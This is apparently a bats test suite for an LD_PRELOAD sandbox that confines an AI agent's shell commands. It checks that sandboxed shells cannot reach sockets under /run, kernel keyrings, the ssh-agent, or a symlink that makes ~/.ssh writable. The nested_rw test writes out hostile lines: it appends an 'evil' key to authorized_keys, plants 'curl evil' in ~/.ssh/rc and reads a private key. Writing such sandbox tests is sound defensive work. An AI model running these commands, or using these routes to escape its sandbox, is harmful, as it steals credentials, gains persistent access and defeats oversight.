	[ "$(id -u)" = 0 ] && chown 65534:65534 "$R/ws/mine"
	chmod 600 "$R/ws/mine"
	dev_case "$R/ws/mine" open_agent sbx_agent
	[ "$(id -u)" = 0 ] || return 0
	mkdir -p "$R/rws"
	mknod "$R/rws/disk" c 1 3
	chmod 600 "$R/rws/disk"
	dev_case "$R/rws/disk" open_root sbx_root
}

# run_sockets DIR: under DIR (in /run, as root), listening sockets of
# root's (root.sock, 0600), the unprivileged user's (mine.sock, 0600), a
# group's (group.sock, root:4242 0660), everyone's (world.sock), each
# answering with its peer's uid (what a daemon that authorizes by
# SO_PEERCRED goes by), and a FIFO of root's; the listener's pid in $PIDS.
run_sockets() {
	mkdir -p "$1"
	python3 -c '
import os, socket, struct, sys, time
d = sys.argv[1]
def listen(name, uid, gid, mode):
    s = socket.socket(socket.AF_UNIX); s.bind(d + "/" + name); s.listen(8)
    os.chown(d + "/" + name, uid, gid); os.chmod(d + "/" + name, mode)
    return s
socks = [listen("root.sock", 0, 0, 0o600), listen("mine.sock", 65534, 65534, 0o600),
         listen("group.sock", 0, 4242, 0o660), listen("world.sock", 0, 0, 0o777)]
os.mkfifo(d + "/fifo", 0o600)
open(d + "/ready", "w").close()
while True:
    for s in socks:
        s.setblocking(False)
        try:
            c, _ = s.accept()
            uid = struct.unpack("3i", c.getsockopt(socket.SOL_SOCKET,
                socket.SO_PEERCRED, 12))[1]
            c.sendall(b"hello uid=%d\n" % uid); c.close()
        except BlockingIOError:
            pass
    time.sleep(0.02)' "$1" </dev/null >/dev/null 2>&1 3>&- &
	PIDS="$PIDS $!"
	for _ in $(seq 50); do [ -e "$1/ready" ] && break; sleep 0.1; done
}

# Connects to each socket of run_sockets and opens its FIFO for writing.
CONNECT_RUN='python3 -c "
import os, socket, sys
d = sys.argv[1]
for n in (\"root.sock\", \"mine.sock\", \"group.sock\", \"world.sock\"):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(d + \"/\" + n); print(n, s.recv(32).decode().strip())
    except OSError as e:
        print(n, \"blocked\", e.errno)
try:
    os.close(os.open(d + \"/fifo\", os.O_WRONLY | os.O_NONBLOCK)); print(\"fifo opened\")
except OSError as e:
    print(\"fifo\", e.errno)
"'

@test "sockets and FIFOs under /run: none answers a root agent's shell as uid 0; a user reaches only everyone's (control: all reachable without the sandbox)" {
	[ "$(id -u)" = 0 ] || skip "a daemon's sockets in /run are root's to make"
	RUNDIR=/run/envshim-esc.$$
	run_sockets "$RUNDIR"
	# root: every socket answers, as uid 0, whatever its mode
	run open_root "$CONNECT_RUN $RUNDIR"
	[ "$(grep -c ' hello uid=0$' <<<"$output")" -eq 4 ]
	grep -qx 'fifo 6' <<<"$output"	# ENXIO: no reader, but it opened
	# as an unprivileged uid root's are closed to it and everyone's
	# sees that uid; as kernel uid 0 (contain mode) every one is hidden
	run sbx_root "$CONNECT_RUN $RUNDIR"
	[ "$status" -eq 0 ]
	lacks 'uid=0$'
	[ "$(grep -c -e ' blocked ' -e ' hello ' <<<"$output")" -eq 4 ]
	grep -qE '^fifo (13|30)$' <<<"$output"
	run sbx_root --contain "$CONNECT_RUN $RUNDIR"
	[ "$status" -eq 0 ]
	[ "$(grep -c ' blocked 111$' <<<"$output")" -eq 4 ]
	grep -qx 'fifo 30' <<<"$output"
	# the user, in the socket's group: its own and the group's are
	# capabilities, everyone's (a local database's) is not
	ingroup() {
		setpriv --reuid=65534 --regid=65534 --groups=4242 env -i HOME="$R/home" \
			PATH=/usr/bin:/bin XDG_STATE_HOME="$R/state" LD_PRELOAD="$SHIM" \
			/usr/bin/python3 -c 'import subprocess, sys; subprocess.run(["bash", "-c", sys.argv[1]])' "$1"
	}
	run setpriv --reuid=65534 --regid=65534 --groups=4242 bash -c "$CONNECT_RUN $RUNDIR"
	grep -qx 'mine.sock hello uid=65534' <<<"$output"
	grep -qx 'group.sock hello uid=65534' <<<"$output"
	run ingroup "cd $R/ws; $CONNECT_RUN $RUNDIR"
	[ "$status" -eq 0 ]
	grep -qx 'mine.sock blocked 111' <<<"$output"
	grep -qx 'group.sock blocked 111' <<<"$output"
	grep -qx 'world.sock hello uid=65534' <<<"$output"
}

@test "keyrings: a sandboxed command can neither read the agent user's keyring by serial nor plant a key in it (control: a plain child can)" {
	cat >"$R/ws/ukeys.py" <<'PY'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
kid, ring = int(sys.argv[1]), int(sys.argv[2])
buf = ctypes.create_string_buffer(64)
n = libc.syscall(250, 11, kid, buf, 64)            # KEYCTL_READ by serial
print("read", buf.value.decode(errors="replace") if n > 0 else os.strerror(ctypes.get_errno()))
k = libc.syscall(248, b"user", b"planted", b"x", 1, ring)   # add_key into @u
print("plant", "ok" if k > 0 else os.strerror(ctypes.get_errno()))
PY
	chmod 644 "$R/ws/ukeys.py"
	# The agent keeps a credential in its user keyring, readable by its
	# uid (as Kerberos' KEYRING cache does), and hands the serials on.
	# (the plain child is the control: under sandbox shells it runs outside)
	printf 'sandbox shells\n' >"$R/shells.policy"
	chmod 644 "$R/shells.policy"
	SHELLS_POLICY=$R/shells.policy
	probe() {
		env -i HOME="$1" PATH=/usr/bin:/bin XDG_STATE_HOME="$2" LD_PRELOAD="$SHIM" \
			ENVSHIM_POLICY="$SHELLS_POLICY" python3 -c '
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
ring = libc.syscall(250, 0, -4, 1)                  # KEYCTL_GET_KEYRING_ID @u
k = libc.syscall(248, b"user", b"envshim-esc-u", b"hunter2key", 10, ring)
libc.syscall(250, 5, k, 0x3f3f0000)                 # KEYCTL_SETPERM: the uid may read
args = "%d %d" % (k, ring)
subprocess.run(["bash", "-c", "echo -n \"shell: \"; python3 ukeys.py " + args])
subprocess.run(["/usr/bin/python3", "ukeys.py"] + args.split())
p = libc.syscall(250, 10, ring, b"user", b"planted", 0)
print("agent finds a planted key:", p > 0)
for x in (k, p):
    if x > 0:
        libc.syscall(250, 21, x)                    # KEYCTL_INVALIDATE
'
	}
	run as_nobody bash -c "$(declare -f probe); SHIM=$SHIM; SHELLS_POLICY=$SHELLS_POLICY; probe $R/home $R/state"
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = "shell: read Function not implemented" ]
	[ "${lines[1]}" = "plant Function not implemented" ]
	[ "${lines[2]}" = "read hunter2key" ]
	[ "${lines[3]}" = "plant ok" ]
	[ "$(id -u)" = 0 ] || return 0
	mkdir -p "$R/rhome" "$R/rws"
	cp "$R/ws/ukeys.py" "$R/rws/"
	run bash -c "cd $R/rws; $(declare -f probe); SHIM=$SHIM; SHELLS_POLICY=$SHELLS_POLICY; probe $R/rhome $R/rstate"
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = "shell: read Function not implemented" ]
	[ "${lines[1]}" = "plant Function not implemented" ]
	[ "${lines[2]}" = "read hunter2key" ]
}

@test "the agent's ssh agent (SSH_AUTH_SOCK dropped) is unreachable from shells wherever its socket is; keep SSH_AUTH_SOCK opts it in, from the hidden runtime dir too (control: a plain child uses it)" {
	# a real ssh-agent of the user's, its socket where the shells can
	# see the directory (not the runtime dir, not /tmp), and a second
	# one in the runtime dir, which is hidden as a whole
	mkdir -p "$R/ws/.agent"
	[ "$(id -u)" = 0 ] && chown 65534:65534 "$R/ws/.agent"
	as_nobody ssh-agent -a "$R/ws/.agent/ssh.sock" >"$R/a1"
	as_nobody ssh-agent -a "$R/run/ssh.sock" >"$R/a2"
	PIDS="$(sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p' "$R/a1" "$R/a2" | tr '\n' ' ')"
	use='for s in "$R/ws/.agent/ssh.sock" "$R/run/ssh.sock"; do SSH_AUTH_SOCK=$s ssh-add -l >/dev/null 2>&1; echo "${s##*/}" $?; done'
	use=${use//\$R/$R}
	# control: the agent's own child lists the keys (1: none, but it answered)
	run as_nobody env SSH_AUTH_SOCK="$R/ws/.agent/ssh.sock" ssh-add -l
	[ "$status" -eq 1 ]
	# the agent has SSH_AUTH_SOCK; its shells get neither the variable
	# nor the socket it names (2: no agent to talk to)
	run as_nobody env -i HOME="$R/home" PATH=/usr/bin:/bin XDG_STATE_HOME="$R/state" \
		XDG_RUNTIME_DIR="$R/run" SSH_AUTH_SOCK="$R/ws/.agent/ssh.sock" LD_PRELOAD="$SHIM" \
		/usr/bin/python3 -c 'import subprocess, sys; subprocess.run(["bash", "-c", sys.argv[1]])' \
		"$use; echo sock=\$SSH_AUTH_SOCK"
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = "ssh.sock 2" ]
	[ "${lines[1]}" = "ssh.sock 2" ]
	[ "${lines[2]}" = "sock=" ]
	# opted in: the one the variable names answers, from the runtime dir
	pol 'keep SSH_AUTH_SOCK'
	run as_nobody env -i HOME="$R/home" PATH=/usr/bin:/bin XDG_STATE_HOME="$R/state" \
		XDG_RUNTIME_DIR="$R/run" SSH_AUTH_SOCK="$R/run/ssh.sock" ENVSHIM_POLICY="$POLICY" \
		LD_PRELOAD="$SHIM" /usr/bin/python3 -c 'import subprocess, sys; subprocess.run(["bash", "-c", sys.argv[1]])' \
		"$use; echo sock=\$SSH_AUTH_SOCK; ls \$XDG_RUNTIME_DIR"
	[ "$status" -eq 0 ]
	# (the workspace's, which no variable names now, is the workspace's)
	[ "${lines[1]}" = "ssh.sock 1" ]
	[ "${lines[2]}" = "sock=$R/run/ssh.sock" ]
	# of the runtime dir, only the kept socket shows, and the sessions'
	# base there (envshim/), whose stand-in holds the session's own path
	[ "${lines[3]}" = "envshim" ]
	[ "${lines[4]}" = "ssh.sock" ]
	[ "${#lines[@]}" -eq 5 ]
	[ "$(id -u)" = 0 ] || return 0
	# root's agent, the same way
	mkdir -p "$R/rws/.agent"
	ssh-agent -a "$R/rws/.agent/ssh.sock" >"$R/a3"
	PIDS="$PIDS $(sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p' "$R/a3")"
	RENV=(SSH_AUTH_SOCK="$R/rws/.agent/ssh.sock")
	run sbx_root 'ssh-add -l >/dev/null 2>&1; echo root $?; SSH_AUTH_SOCK=.agent/ssh.sock ssh-add -l >/dev/null 2>&1; echo root $?'
	RENV=()
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = "root 2" ]
	[ "${lines[1]}" = "root 2" ]
}

# nested_rw: a shell plants a link inside one writable path where another
# rw path of the policy will be; the next shell must not get the link's
# target bound writable.
nested_rw() {
	pol 'rw ~/a' 'rw ~/a/b'
	mkdir -p "$R/home/a"
	if [ "${RUN_AS:-}" = command ]; then
		chown -R "$(id -u):$(id -g)" "$R/home"
	elif [ "$(id -u)" = 0 ]; then
		chown -R 65534:65534 "$R/home"
	fi
	# control: the policy's first rw path is the real one, writable
	run sbx_agent 'echo x >~/a/x && ln -s ~/.ssh ~/a/b && echo planted'
	[ "$status" -eq 0 ]
	[ "$output" = planted ]
	[ "$(cat "$R/home/a/x")" = x ]
	run sbx_agent 'echo "ssh-ed25519 AAAA evil" >>~/a/b/authorized_keys; echo "curl evil" >>~/.ssh/rc; cat ~/a/b/id_ed25519; echo ran'
	[ "$status" -eq 0 ]
	[ "${lines[-1]}" = ran ]
	lacks 'PRIVATE KEY'
	[ ! -e "$R/home/.ssh/authorized_keys" ]
	[ ! -e "$R/home/.ssh/rc" ]
}

@test "a link planted in a writable path where another rw path goes binds nothing else writable (nobody)" {
	nested_rw
}

@test "a link planted in a writable path where another rw path goes binds nothing else writable (root)" {
	[ "$(id -u)" = 0 ] && chown -R 0:0 "$R/home" "$R/ws" "$R/state" "$R/run"
	RUN_AS=command nested_rw
}
